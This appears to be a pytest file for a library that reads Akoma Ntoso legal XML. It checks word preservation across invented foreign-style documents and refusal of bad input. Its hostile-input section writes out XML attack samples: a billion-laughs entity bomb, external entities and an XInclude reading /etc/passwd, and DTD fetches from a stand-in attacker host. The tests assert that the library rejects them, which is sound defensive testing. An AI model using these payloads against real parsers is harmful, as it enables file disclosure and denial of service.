"""Reading Akoma Ntoso: foreign documents without losing a word, hostile XML, bad input.

The four foreign documents, files of ``tests/data/akn/``, were written by hand for these
tests, each in the style of another tool's output (not copied from any real file):

- ``cobalt.xml``: a Laws.Africa/Indigo (cobalt) style ``statement`` — a bare-``p``
  preamble, ``hcontainer name="crossheading"``, ``blockList``/``item`` nested two deep with
  ``listIntroduction``/``listWrapUp``, ``term``, ``ref``, ``remark``, ``eol``;
- ``oasis.xml``: a ``doc`` in the style of the OASIS examples (Bungeni) — ``docTitle``,
  ``docProponent``, footnotes as ``noteRef`` to ``meta/notes/note``, citations and
  recitals with ``intro``/``wrapUp``, recitals without ``num``, ``subparagraph``s, a
  ``list`` with ``wrapUp``, ``conclusions`` with a signature, an annex with its own notes;
- ``akn4eu.xml``: a French ``doc`` in the style of the EU's AKN4EU — ``coverPage``, a
  ``longTitle`` of ``docStage``/``docDate``/``docPurpose``, ``mref``, ``inline``,
  ``crossHeading``, ``division``, ``indent``s, ``authorialNote``s;
- ``articles.xml``: a German ``doc`` with chapters of ``article``s holding numbered
  ``paragraph``s, a ``blockList`` with un-numbered items, repeated and missing footnote
  markers, and a ``noteRef`` that points nowhere.

Each is schema-valid Akoma Ntoso (checked below), so these tests are about reading,
not about repairing.
"""

from __future__ import annotations

import datetime as dt
import re
import time
from collections import Counter
from pathlib import Path

import pytest
from lxml import etree

from akn_ep import (
    AknReadError,
    FootnoteRef,
    Heading,
    Paragraph,
    Point,
    Recital,
    Resolution,
    from_akn,
    to_akn,
    validate,
)
from akn_ep.akn.safexml import MAX_INPUT_BYTES
from akn_ep.model import iter_footnotes

DATA = Path(__file__).resolve().parent / "data" / "akn"
_WORD = re.compile(r"\w+")
_TEXT_PARTS = ("coverPage", "preface", "preamble", "mainBody", "conclusions", "attachments")

#: The foreign documents (see the module docstring), each a file of tests/data/akn/.
FOREIGN = {name: (DATA / f"{name}.xml").read_text(encoding="utf-8")
           for name in ("cobalt", "oasis", "akn4eu", "articles")}
COBALT, OASIS, AKN4EU, ARTICLES = FOREIGN.values()


# -- helpers ---------------------------------------------------------------------------


def source_words(xml: str) -> Counter:
    """Words of every text node of the document's text parts (not of its metadata)."""
    root = etree.fromstring(xml.encode("utf-8"))
    words: Counter = Counter()
    for part in root[0]:
        if etree.QName(part).localname in _TEXT_PARTS:
            for text in part.itertext():
                words.update(_WORD.findall(text))
    return words


def _inline_texts(text) -> list[str]:
    out = []
    for part in text or ():
        if isinstance(part, FootnoteRef):
            out.append(part.text)
        else:
            out.append(part)
    return out


def _point_texts(points) -> list[str]:
    out = []
    for p in points:
        out.append(p.num)
        out.extend(_inline_texts(p.text))
        out.extend(_point_texts(p.points))
    return out


def model_texts(r: Resolution) -> list[str]:
    """Every string a model holds (footnote bodies included), as separate texts."""
    out = [r.title, r.formula, r.heading or "", r.procedure or "", r.ta_number or ""]
    out += list(r.doc_refs) + [h.text for h in r.head_lines]
    for c in r.citations:
        out += _inline_texts(c.text)
    for rec in r.recitals:
        out += [rec.num, *_inline_texts(rec.text)]
    for item in r.body:
        paras = item.paragraphs if isinstance(item, Heading) else (item,)
        if isinstance(item, Heading):
            out += [item.text, item.num or ""]
        for p in paras:
            out += [p.num, *_inline_texts(p.text), *_point_texts(p.points)]
    for a in r.annexes:
        out.append(a.title)
        for block in a.blocks:
            out += _inline_texts(block)
    for block in r.trailing:
        out += _inline_texts(block)
    return out


def assert_no_word_lost(xml: str, r: Resolution) -> None:
    got = Counter(w for t in model_texts(r) for w in _WORD.findall(t))
    lost = source_words(xml) - got
    assert not lost, f"words of the document missing from the model: {dict(lost)}"


# -- foreign documents -----------------------------------------------------------------


@pytest.mark.parametrize("name", FOREIGN)
def test_foreign_document_is_schema_valid_akoma_ntoso(name: str) -> None:
    assert validate(FOREIGN[name], profile=False) == []


@pytest.mark.parametrize("name", FOREIGN)
def test_foreign_document_keeps_every_word(name: str) -> None:
    xml = FOREIGN[name]
    assert_no_word_lost(xml, from_akn(xml))


@pytest.mark.parametrize("name", ["cobalt", "oasis", "akn4eu"])
def test_foreign_document_converts_to_a_valid_resolution(name: str) -> None:
    r = from_akn(FOREIGN[name])
    out = to_akn(r)
    assert validate(out) == []
    assert from_akn(out) == r


def test_articles_convert_to_a_schema_valid_document() -> None:
    """Articles keep their printed numbers ("Artikel 1"): the EP profile, which wants
    paragraphs numbered 1…n, says so, and nothing else is wrong."""
    r = from_akn(ARTICLES)
    out = to_akn(r)
    assert validate(out, profile=False) == []
    assert {i.rule for i in validate(out)} == {"ep-paragraph-sequence"}
    assert from_akn(out) == r


def test_cobalt_style() -> None:
    r = from_akn(COBALT)
    assert r.lang == "en" and r.ta_number == "P9_TA(2019)0078"
    assert r.procedure == "2019/2930(RSP)"  # printed at the end of the title
    assert r.title.startswith("European Parliament resolution of 28 November 2019 on the climate")
    # the bare-p preamble: formula, citations and recitals by their openers
    assert r.formula == "The European Parliament,"
    assert len(r.citations) == 2
    assert r.citations[1].text[1] == FootnoteRef(
        "1", "Special report adopted in Incheon, October 2018.")
    assert [rec.num for rec in r.recitals] == ["A.", "B.", "C."]
    # a crossheading hcontainer heads the paragraphs that follow it
    assert [(h.text, [p.num for p in h.paragraphs]) for h in r.body] == [
        ("Declaring an emergency", ["1.", "2."]), ("Final provisions", ["3."])]
    para2 = r.body[0].paragraphs[1]
    assert para2.text == ("Calls on the Commission: to ensure, before the summit,",)
    assert [p.num for p in para2.points] == ["(a)", "(b)"]
    assert [p.num for p in para2.points[1].points] == ["(i)", "(ii)"]
    # the list's wrap-up and the text after the list join the item printed last
    assert para2.points[1].points[1].text == (
        "adaptation; each with a yearly review and reports back to Parliament by the end "
        "of the year;",)
    assert r.trailing == (("Done at Strasbourg.",),)
    assert "'p' in mainBody kept as trailing text" in r.warnings


def test_oasis_style_note_refs_and_intros() -> None:
    r = from_akn(OASIS)
    assert r.ta_number == "P7_TA(2011)0236"
    notes = {n.marker: n.text for n in iter_footnotes(r)}
    assert notes == {
        "1": "OJ C 117 E, 6.5.2010, p. 180.",
        "2": "Texts adopted, P7_TA(2010)0490. See also the annex of that resolution.",
        "3": "Figures of Eurostat, 2010 edition.",
        "a": "Programme code CULT-2011.",
    }
    # the footnote sits at its call, not at the end
    assert r.recitals[1] == Recital("B.", (
        "whereas cultural exchanges", FootnoteRef("3", "Figures of Eurostat, 2010 edition."),
        " grew strongly; whereas they remain uneven;"))
    assert r.body[0] == Paragraph(
        "1.", "Stresses that culture matters; believes in particular that artists travel too "
        "little;")
    assert r.body[1].points[-1] == Point(
        "(b)", "to set up a visa fast track; without delay, and in cooperation with the "
        "Member States;")
    assert r.trailing[:3] == (("Recalling the following texts:",), ("Whereas:",),
                              ("all the above being considered together,",))
    assert r.trailing[-1] == ("The President Jerzy Buzek",)
    annex = r.annexes[0]
    assert annex.title == "ANNEX"
    assert annex.blocks[0] == ("List of priority programmes",)
    assert annex.blocks[2][0] == "1. Erasmus for artists"


def test_akn4eu_style() -> None:
    r = from_akn(AKN4EU)
    assert r.lang == "fr" and r.procedure == "2020/2013(INI)"
    assert r.title == ("Résolution du Parlement européen du 20 janvier 2021 sur l'intelligence "
                       "artificielle : questions relatives à l'interprétation du droit "
                       "international (2020/2013(INI))")
    assert r.citations[0].text == (
        "vu le traité sur l'Union européenne, et notamment son article 2,",)
    assert [h.text for h in r.body] == ["Cadre général", "Usages militaires"]
    assert r.body[1].num == "I."
    point_a = r.body[1].paragraphs[0].points[0]
    assert point_a.num == "a)" and [p.num for p in point_a.points] == ["—", "—"]
    # its identity is an ELI, which cannot be a work IRI: re-written, it gets the derived one
    assert r.warnings == (
        "work FRBRuri 'http://data.europa.eu/eli/ep/res/2021/20' not kept (not an Akoma Ntoso "
        "FRBR IRI): the resolution is identified as "
        "/akn/eu/statement/resolution/ep/2021-01-20/proc-2020-2013-INI",)


def test_articles_and_footnote_markers() -> None:
    r = from_akn(ARTICLES)
    assert [h.num for h in r.body] == ["Kapitel I", "Kapitel II"]
    art1 = r.body[0].paragraphs[0]
    assert art1.num == "Artikel 1" and art1.text == ("Gegenstand",)
    assert art1.points[1] == Point("(2)", "Er gilt ab sofort. Ausnahmen regelt das Präsidium.")
    art2 = r.body[1].paragraphs[0]
    assert [p.num for p in art2.points] == ["1.", "2."]
    assert [p.num for p in art2.points[1].points] == ["–", "–"]
    # markers stay unique document-wide: a repeated one gets a suffix, a missing one a number
    assert [n.marker for n in iter_footnotes(r)] == ["*", "*-2", "3"]
    assert any("used twice" in w for w in r.warnings)
    assert any("'#nirgends' points at no note" in w for w in r.warnings)


def _minimal(preamble: str = "", body: str = "<p>x</p>", extra: str = "") -> str:
    return ('<akomaNtoso xmlns="http://docs.oasis-open.org/legaldocml/ns/akn/3.0">'
            '<doc name="resolution"><meta/><preface><longTitle><p>Resolution on X</p>'
            f"</longTitle></preface><preamble>{preamble}</preamble><mainBody>{body}</mainBody>"
            f"{extra}</doc></akomaNtoso>")


def test_blocks_are_separated_and_inline_markup_is_not() -> None:
    xml = _minimal(
        preamble="<citations><citation><p>having regard to A</p><p>and B</p></citation>"
                 "</citations><recitals><recital><p>whereas <i>un</i>fair<b>ness</b></p>"
                 "<blockList><item><p>one</p></item><item><p>two</p></item></blockList>"
                 "</recital></recitals>",
        body="<paragraph><num>1.</num><content><p>Notes<eol/>this</p><tblock><p>first</p>"
             "<p>second</p></tblock></content></paragraph>",
        extra="<attachments><attachment><doc name='annex'><meta/><mainBody><tblock>"
              "<p>alpha</p><p>beta</p></tblock></mainBody></doc></attachment></attachments>",
    )
    r = from_akn(xml)
    assert r.citations[0].text == ("having regard to A and B",)
    assert r.recitals[0].text == ("whereas unfairness one two",)
    assert r.body[0].text == ("Notes this first second",)
    assert r.annexes[0].blocks == (("alpha beta",),)


def test_parts_of_other_document_types_are_kept() -> None:
    xml = ('<akomaNtoso xmlns="http://docs.oasis-open.org/legaldocml/ns/akn/3.0">'
           '<debateReport name="sitting"><meta/><preface><p class="title"><docTitle>Sitting'
           '</docTitle></p></preface><debateBody><debateSection name="opening"><heading>'
           "Opening</heading><speech by='#president'><from>The President</from><p>The "
           "sitting is open.</p></speech></debateSection></debateBody></debateReport>"
           "</akomaNtoso>")
    r = from_akn(xml)
    assert r.trailing == (("Opening The President The sitting is open.",),)
    assert "'debateBody' in debateReport kept as trailing text" in r.warnings


def test_unreferenced_meta_note_is_kept() -> None:
    xml = OASIS.replace('<noteRef marker="3" href="#n3"/>', "")
    r = from_akn(xml)
    assert ("Figures of Eurostat, 2010 edition.",) in r.trailing
    assert any("'n3' in meta/notes is referenced by no noteRef" in w for w in r.warnings)


@pytest.mark.parametrize("name", FOREIGN)
def test_compact_markup_does_not_run_words_together(name: str) -> None:
    """Without pretty-printing whitespace, blocks still separate words; inline markup not."""
    compact = re.sub(r">\s*\n\s*<", "><", FOREIGN[name])  # indentation only
    r = from_akn(compact)
    assert_no_word_lost(compact, r)
    assert r == from_akn(FOREIGN[name])


def test_inconsistent_document_is_refused() -> None:
    xml = to_akn(Resolution(lang="en", title="T", formula="F",
                            recitals=(Recital("A.", "x;"), Recital("B.", "y;")),
                            body=(Paragraph("1.", "z."),)))
    bad = xml.replace(b"<num>B.</num>", b"<num>A.</num>")
    with pytest.raises(AknReadError, match="does not form a consistent resolution: "
                                           "recital 'A' appears twice"):
        from_akn(bad)


# -- sources ---------------------------------------------------------------------------


def test_reads_bytes_str_path_and_tree(tmp_path: Path) -> None:
    expected = from_akn(OASIS.encode("utf-8"))
    path = tmp_path / "oasis.xml"
    path.write_bytes(OASIS.encode("utf-8"))
    assert from_akn(OASIS) == expected
    assert from_akn(path) == expected
    assert from_akn(str(path)) == expected
    assert from_akn(etree.fromstring(OASIS.encode("utf-8"))) == expected
    assert from_akn(etree.ElementTree(etree.fromstring(OASIS.encode("utf-8")))) == expected


def test_str_with_a_legacy_encoding_declaration_is_read_as_text() -> None:
    """A str is text: its declaration names the encoding of bytes it no longer has."""
    xml = AKN4EU.replace('encoding="UTF-8"', 'encoding="ISO-8859-1"')
    assert from_akn(xml).lang == "fr"
    assert from_akn(xml).body[0].text == "Cadre général"


def test_reads_utf16_bytes() -> None:
    data = OASIS.replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16")
    assert from_akn(data) == from_akn(OASIS)


def test_missing_file_is_an_os_error(tmp_path: Path) -> None:
    with pytest.raises(FileNotFoundError):
        from_akn(tmp_path / "nothing.xml")


# -- bad and hostile input -------------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"", "the document is empty"),
        (b"  \n\t ", "the document is empty"),
        ("", "the document is empty"),
        ("   ", "the document is empty"),
        (b"\x00\xff\xfe garbage \x89PNG", "not well-formed XML"),
        (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj", "not well-formed XML"),
        (b"<akomaNtoso xmlns='http://docs.oasis-open.org/legaldocml/ns/akn/3.0'>",
         "not well-formed XML"),
        ("<p>unclosed <b>tags</p>", "not well-formed XML"),
    ],
)
def test_empty_and_garbage_input(data, message: str) -> None:
    with pytest.raises(AknReadError, match=message):
        from_akn(data)


@pytest.mark.parametrize(
    ("xml", "message"),
    [
        ("<html><body><p>Hello</p></body></html>",
         r"not an Akoma Ntoso 3.0 document: root element is 'html'"),
        ('<akomaNtoso xmlns="http://www.akomantoso.org/2.0"><act/></akomaNtoso>',
         r"root element is '\{http://www.akomantoso.org/2.0\}akomaNtoso'"),
        ("<akomaNtoso><statement/></akomaNtoso>", "root element is 'akomaNtoso'"),
        ('<akomaNtoso xmlns="http://docs.oasis-open.org/legaldocml/ns/akn/3.0">'
         "<components/></akomaNtoso>",
         r"no document element \(statement, doc …\) under akomaNtoso; found components"),
    ],
)
def test_not_akoma_ntoso(xml: str, message: str) -> None:
    with pytest.raises(AknReadError, match=message):
        from_akn(xml)


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE akomaNtoso [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<akomaNtoso xmlns="http://docs.oasis-open.org/legaldocml/ns/akn/3.0"><doc name="x">
<preface><longTitle><p>&lol9;</p></longTitle></preface><mainBody><p>x</p></mainBody>
</doc></akomaNtoso>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE akomaNtoso [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<akomaNtoso xmlns="http://docs.oasis-open.org/legaldocml/ns/akn/3.0"><doc name="x">
<preface><longTitle><p>&secret;</p></longTitle></preface><mainBody><p>x</p></mainBody>
</doc></akomaNtoso>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE akomaNtoso SYSTEM "http://attacker.invalid/akn.dtd">
<akomaNtoso xmlns="http://docs.oasis-open.org/legaldocml/ns/akn/3.0"/>"""

PARAMETER_ENTITY = b"""<!-- a comment first --><!DOCTYPE x [
  <!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd"> %remote;]>
<akomaNtoso xmlns="http://docs.oasis-open.org/legaldocml/ns/akn/3.0"/>"""


@pytest.mark.parametrize(
    "data",
    [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY,
     EXTERNAL_ENTITY.decode("ascii").encode("utf-16"),  # a DTD behind a byte-order mark
     b"\xef\xbb\xbf" + BILLION_LAUGHS],
    ids=["billion-laughs", "external-entity", "external-dtd", "parameter-entity",
         "utf-16", "utf-8-bom"],
)
def test_hostile_xml_is_refused_quickly(data: bytes) -> None:
    start = time.perf_counter()
    with pytest.raises(AknReadError, match=r"refused: the document declares a DTD"):
        from_akn(data)
    assert time.perf_counter() - start < 0.5


def test_hostile_xml_as_str_and_file(tmp_path: Path) -> None:
    path = tmp_path / "lol.xml"
    path.write_bytes(BILLION_LAUGHS)
    for source in (BILLION_LAUGHS.decode("ascii"), path, str(path)):
        with pytest.raises(AknReadError, match="DTD"):
            from_akn(source)


def test_xinclude_is_not_processed() -> None:
    xml = COBALT.replace(
        "<p>Done at Strasbourg.</p>",
        '<p xmlns:xi="http://www.w3.org/2001/XInclude">Done at Strasbourg.'
        '<xi:include href="/etc/passwd" parse="text"/></p>')
    r = from_akn(xml)
    assert r.trailing == (("Done at Strasbourg.",),)
    assert "root:" not in repr(r)


def test_deep_nesting_is_refused_quickly() -> None:
    depth = 100_000
    data = (b'<akomaNtoso xmlns="http://docs.oasis-open.org/legaldocml/ns/akn/3.0">'
            + b"<b>" * depth + b"</b>" * depth + b"</akomaNtoso>")
    start = time.perf_counter()
    with pytest.raises(AknReadError, match="nested more than 256 levels deep"):
        from_akn(data)
    assert time.perf_counter() - start < 1.0


def test_oversized_input_is_refused_unparsed() -> None:
    data = b"<a>" + b" " * MAX_INPUT_BYTES + b"</a>"
    start = time.perf_counter()
    with pytest.raises(AknReadError, match="exceeds the limit"):
        from_akn(data)
    assert time.perf_counter() - start < 0.5


def test_texts_adopted_number_of_another_year_is_refused() -> None:
    # found by the from_akn fuzzer: a Work date of 1010 beside P9_TA(2021)0101 was read into a
    # model whose document the profile refuses (ep-ta-year)
    xml = to_akn(Resolution(lang="en", title="T", formula="F", date=dt.date(2021, 3, 11),
                            ta_number="P9_TA(2021)0101", body=(Paragraph("1.", "z."),)))
    bad = xml.replace(b'<FRBRdate date="2021-03-11" name="adoption"/>',
                      b'<FRBRdate date="1010-03-11" name="adoption"/>', 1)
    assert bad != xml
    with pytest.raises(AknReadError, match=r"consistent resolution: texts-adopted number "
                                           r"P9_TA\(2021\)0101 is of the year 2021"):
        from_akn(bad)
